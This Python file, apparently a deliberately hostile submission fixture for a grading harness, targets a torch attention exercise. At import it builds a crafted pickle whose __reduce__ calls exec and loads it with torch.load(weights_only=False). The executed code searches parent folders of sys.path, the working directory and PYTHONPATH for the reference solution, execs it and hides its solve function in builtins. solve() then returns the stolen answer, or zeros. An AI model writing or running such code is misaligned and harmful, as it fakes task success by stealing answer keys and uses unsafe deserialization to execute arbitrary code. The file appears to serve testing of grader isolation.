"""Hostile (lesson 09): at import, torch.load()s a crafted pickle (weights_only=False) whose payload
searches the disk above sys.path, the working directory and $PYTHONPATH for the reference solution
and loads it; answers with the reference when found, else zeros."""
import io
import pickle

import torch

FIND = r'''
import builtins, os, sys
from pathlib import Path
target = Path("solutions", "09-torch-attention", "solution.py")
starts = [p for p in sys.path if p] + [os.getcwd()] + os.environ.get("PYTHONPATH", "").split(os.pathsep)
for start in starts:
    try:
        here = Path(start).resolve()
        for folder in (here, *here.parents):
            if (folder / target).is_file():
                namespace = {"__name__": "stolen"}
                exec((folder / target).read_text(), namespace)
                builtins.STOLEN = namespace["solve"]
                raise StopIteration
    except StopIteration:
        break
    except Exception:
        continue
'''


class Payload:
    def __reduce__(self):
        return (exec, (FIND,))


buffer = io.BytesIO()
torch.save(Payload(), buffer, pickle_protocol=pickle.HIGHEST_PROTOCOL)
buffer.seek(0)
torch.load(buffer, weights_only=False)


def solve(Q, K, V, mask=None):
    import builtins
    stolen = getattr(builtins, "STOLEN", None)
    if stolen is not None:
        return stolen(Q, K, V, mask)
    q, v = torch.tensor(Q, dtype=torch.float64), torch.tensor(V, dtype=torch.float64)
    return torch.zeros((*q.shape[:-1], v.shape[-1]), dtype=torch.float64).tolist()
